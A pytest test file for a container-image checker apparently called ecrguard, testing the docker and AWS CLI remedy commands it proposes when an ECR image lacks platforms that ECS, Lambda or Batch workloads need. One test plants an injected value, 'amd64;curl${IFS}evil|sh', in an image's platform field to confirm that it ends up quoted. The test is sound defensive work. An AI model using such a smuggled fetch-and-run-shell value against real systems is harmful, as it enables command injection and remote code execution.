"""Remedies: the image that they build is one that passes, and nothing in them can break out of a command."""

from __future__ import annotations

from dataclasses import replace

import pytest
from tests.situations import (
    DIGEST,
    OTHER_DIGEST,
    apprunner,
    ecs,
    index,
    platforms,
    push,
    single,
    workload,
)

from ecrguard.domain.image import Evidence, Image, ImageKind, Offer
from ecrguard.domain.judge import Requirements, judge
from ecrguard.domain.platform import Platform, parse
from ecrguard.domain.policy import Demand, Match
from ecrguard.domain.push import Arrival
from ecrguard.domain.remedy import Goal, change_workload, push_again
from ecrguard.domain.verdict import Failure, Subject, SubjectKind
from ecrguard.domain.workload import Basis, Workload, WorkloadKind

RULE = Subject(SubjectKind.POLICY_RULE, "policy rule web")
URI = "123456789012.dkr.ecr.eu-central-1.amazonaws.com/team/web:1.4"


def demand(texts: str, match: Match = Match.ALL, *, extra: bool = True) -> Requirements:
    return Requirements(Demand(tuple(parse(text, partial=True) for text in texts.split()), match, extra), RULE)


REBUILT = {
    "a single image for the one platform needed": (
        single("linux/arm64"),
        Requirements(workloads=(ecs(),)),
        "linux/amd64",
    ),
    "an index keeps what it has": (
        index("linux/arm64 linux/arm/v7"),
        Requirements(workloads=(ecs(),)),
        "linux/arm64,linux/arm/v7,linux/amd64",
    ),
    "a single image that another service needs keeps its platform": (
        single("linux/arm64"),
        Requirements(workloads=(ecs(), ecs("linux/arm64", name="b"))),
        "linux/arm64,linux/amd64",
    ),
    "a single image for a cluster of both": (
        single("linux/arm64"),
        Requirements(workloads=(ecs("linux/amd64 linux/arm64"),)),
        "linux/arm64,linux/amd64",
    ),
    "all that the policy names, not the missing one alone": (
        single("linux/amd64"),
        demand("linux/amd64 linux/arm64"),
        "linux/amd64,linux/arm64",
    ),
    "nothing else than the policy names": (
        index("linux/amd64 linux/s390x"),
        demand("linux/amd64 linux/arm64", extra=False),
        "linux/amd64,linux/arm64",
    ),
    "only what may stay": (index("linux/amd64 linux/s390x"), demand("linux/amd64", extra=False), "linux/amd64"),
    "one of those of which any will do": (
        single("linux/s390x"),
        demand("linux/arm64 linux/amd64", Match.ANY),
        "linux/arm64",
    ),
    "what the policy leaves open stays as it is": (single("linux/amd64"), demand("arm64"), "linux/arm64"),
    "of an architecture alone, among others, nothing else": (
        index("linux/amd64 linux/arm64"),
        demand("arm64", extra=False),
        "linux/arm64",
    ),
    "an os alone": (single("windows/amd64"), demand("linux"), "linux/amd64"),
    "nothing there to go by": (index(""), demand("arm64"), "linux/arm64"),
}


@pytest.mark.parametrize(("image", "needs", "targets"), REBUILT.values(), ids=REBUILT.keys())
def test_the_image_that_the_remedy_builds_is_the_one_that_would_pass(
    image: Image, needs: Requirements, targets: str
) -> None:
    (finding,) = judge(push(), image, needs).findings
    command = f"docker buildx build --platform {targets} --tag {URI} --push ."

    assert finding.remedy[0].command == command
    built = index(targets.replace(",", " "))
    assert not judge(push(), built, needs).findings


def test_every_finding_of_an_image_has_the_same_commands() -> None:
    needs = Requirements(demand("linux/amd64 linux/arm/v7").demand, RULE, workloads=(ecs("linux/amd64"),))

    first, second = judge(push(), single("linux/arm64"), needs).findings

    assert first.remedy[0] == second.remedy[0]
    assert "--platform linux/amd64,linux/arm/v7 " in first.remedy[0].command


def test_what_needs_one_platform_can_also_be_copied_from_where_it_came() -> None:
    build, copy = push_again(push(), Goal(platforms("linux/amd64")))

    assert (build.text, copy.text) == (
        "If you build it:",
        "If you copied it from elsewhere, with its name there for SOURCE_IMAGE:",
    )
    assert copy.command == (
        f"docker pull --platform linux/amd64 SOURCE_IMAGE && docker tag SOURCE_IMAGE {URI} && docker push {URI}"
    )


def test_what_needs_two_platforms_cannot_be_pulled_as_one() -> None:
    assert len(push_again(push(), Goal(platforms("linux/amd64 linux/arm64")))) == 1


def test_nothing_to_build_gives_no_command() -> None:
    assert push_again(push(), Goal(())) == ()


def test_another_build_of_windows_comes_with_its_base_image_and_by_no_option() -> None:
    workloads = (ecs("windows(10.0.20348)/amd64"),)

    (finding,) = judge(push(), single("windows(10.0.17763.5)/amd64"), Requirements(workloads=workloads)).findings

    assert finding.failure is Failure.WINDOWS_BUILD
    assert [remedy.text for remedy in finding.remedy] == ["Build it FROM a base image of Windows build 10.0.20348."]


def test_what_an_image_says_of_itself_cannot_break_out_of_a_command() -> None:
    hostile = Platform("linux", "amd64;curl${IFS}evil|sh")
    image = Image(DIGEST, "", ImageKind.INDEX, (Offer(hostile, Evidence.DESCRIPTOR, DIGEST),))

    (finding,) = judge(push(), image, Requirements(workloads=(ecs(),))).findings

    assert "--platform 'linux/amd64;curl${IFS}evil|sh,linux/amd64' " in finding.remedy[0].command


DEFINITIONS = {
    "not where ECS promises no such CPU level": (ecs("linux/arm64"), index("linux/amd64/v3"), ""),
    "not what it says already": (ecs(), index("linux/amd64/v3"), ""),
    "the other architecture": (ecs(), single("linux/arm64"), '"cpuArchitecture": "ARM64"'),
    "the first by name where it has both": (ecs("linux/s390x"), index("linux/arm64 linux/amd64"), '"ARM64"'),
    "not for App Runner, which has none": (apprunner(), single("linux/arm64"), ""),
    "not where the cluster decides": (ecs(basis=Basis.CAPACITY), single("linux/arm64"), ""),
    "not where ECS chose the platform against the definition": (
        ecs(basis=Basis.OVERRIDE),
        single("linux/arm64"),
        "",
    ),
    "not for a service on several platforms": (ecs("linux/amd64 linux/arm64"), single("linux/arm64"), ""),
    "not for what ECS has no name": (ecs(), single("linux/s390x"), ""),
    "not for Windows": (ecs("windows(10.0.20348)/amd64"), single("linux/arm64"), ""),
}


@pytest.mark.parametrize(("service", "image", "words"), DEFINITIONS.values(), ids=DEFINITIONS.keys())
def test_the_task_definition_may_be_changed_instead_where_ecs_has_the_platform(
    service: Workload, image: Image, words: str
) -> None:
    remedy = change_workload(push(), image, service)

    assert bool(remedy) == bool(words)
    assert all(words in each.text and "web:7" in each.text for each in remedy)


HOST = "123456789012.dkr.ecr.eu-central-1.amazonaws.com"
UPDATE_FUNCTION = "aws lambda update-function-code --region eu-central-1 --function-name resize --image-uri"
# What each kind can be changed to instead of the image: the words, and the command.
CHANGES = {
    WorkloadKind.ECS_SERVICE: ("in a new revision of the task definition web:7. Every container of the task", ""),
    WorkloadKind.ECS_EXPRESS_SERVICE: (
        "run the service on ARM64",
        (
            "aws ecs update-express-gateway-service --region eu-central-1 --service-arn "
            "arn:aws:ecs:eu-central-1:123456789012:service/prod/x --cpu-architecture ARM64"
        ),
    ),
    WorkloadKind.ECS_DAEMON: ("in a new revision of the task definition log:2.", ""),
    WorkloadKind.ECS_TASK: ("in a new revision of the task definition job:3.", ""),
    WorkloadKind.ECS_SCHEDULED_TASK: ("in a new revision of the task definition job:3.", ""),
    WorkloadKind.LAMBDA_FUNCTION: (
        "change the function's architecture with it",
        f"{UPDATE_FUNCTION} {URI} --architectures arm64",
    ),
    WorkloadKind.BATCH_JOB_DEFINITION: (
        "in a new revision of the job definition report:4, if its jobs run on Fargate. Every container of the job",
        "",
    ),
}


@pytest.mark.parametrize("kind", WorkloadKind)
def test_a_workload_may_be_changed_instead_where_its_kind_can_be(kind: WorkloadKind) -> None:
    remedy = change_workload(push(), single("linux/arm64"), workload(kind))

    assert bool(remedy) == (kind in CHANGES)
    for each in remedy:
        words, command = CHANGES[kind]
        assert words in each.text
        assert each.command == command


def test_what_was_started_from_no_known_definition_has_none_to_change() -> None:
    task = replace(workload(WorkloadKind.ECS_TASK), definition="")

    assert change_workload(push(), single("linux/arm64"), task) == ()


FUNCTION = workload(WorkloadKind.LAMBDA_FUNCTION)
BUILD = f"docker buildx build --platform linux/amd64 --provenance=false --tag {URI} --push ."
COPY = f"docker pull --platform linux/amd64 SOURCE_IMAGE && docker tag SOURCE_IMAGE {URI} && docker push {URI}"
CHILD = f"{UPDATE_FUNCTION} {HOST}/team/web@{OTHER_DIGEST}"
OF_INDEXES = {
    "one that has the platform can also be named by the digest of its image": (
        index("linux/amd64 linux/arm64"),
        (FUNCTION,),
        [BUILD, COPY, CHILD],
    ),
    "one that has not must be built again": (index("linux/arm64"), (FUNCTION,), [BUILD, COPY]),
    "one that others need stays, and the function gets its image": (
        index("linux/amd64 linux/arm64"),
        (FUNCTION, ecs("linux/arm64")),
        [CHILD],
    ),
    "one that others need and that has not the function's platform": (
        index("linux/arm64"),
        (FUNCTION, ecs("linux/arm64")),
        [""],
    ),
    "one for a function of an architecture that is not known": (
        index("linux/amd64 linux/arm64"),
        (replace(FUNCTION, hosts=(), basis=Basis.UNRECOGNISED),),
        [""],
    ),
}


@pytest.mark.parametrize(("image", "workloads", "commands"), OF_INDEXES.values(), ids=OF_INDEXES.keys())
def test_a_function_needs_a_single_image_instead_of_an_index(
    image: Image, workloads: tuple[Workload, ...], commands: list[str]
) -> None:
    found = judge(push(), image, Requirements(workloads=workloads)).findings
    (finding,) = [each for each in found if each.failure is Failure.INDEX_NOT_SUPPORTED]

    assert [remedy.command for remedy in finding.remedy] == commands
    assert all(remedy.text for remedy in finding.remedy)


def test_an_image_that_a_function_needs_too_is_built_as_no_index() -> None:
    """BuildKit makes an index even of one platform, for its attestation."""
    needs = Requirements(workloads=(FUNCTION, ecs("linux/amd64")))

    findings = judge(push(), single("linux/arm64"), needs).findings

    assert [finding.remedy[0].command for finding in findings] == [BUILD, BUILD]


def test_what_is_deployed_is_to_be_changed_back_or_deployed_again() -> None:
    build, copy = push_again(push(arrival=Arrival.DEPLOYED), Goal(platforms("linux/amd64")))

    assert build.text == "If you build it (then deploy it again):"
    assert copy.text == (
        "If you copied it from elsewhere, with its name there for SOURCE_IMAGE (then deploy it again):"
    )


def test_what_is_named_by_its_digest_gets_a_tag_when_it_is_pushed_again() -> None:
    build, copy = push_again(push("", arrival=Arrival.DEPLOYED), Goal(platforms("linux/amd64")))

    assert build.text == "If you build it, with a tag there for NEW_TAG (then deploy it again):"
    assert build.command == f"docker buildx build --platform linux/amd64 --tag {HOST}/team/web:NEW_TAG --push ."
    assert copy.command.endswith(f"docker push {HOST}/team/web:NEW_TAG")
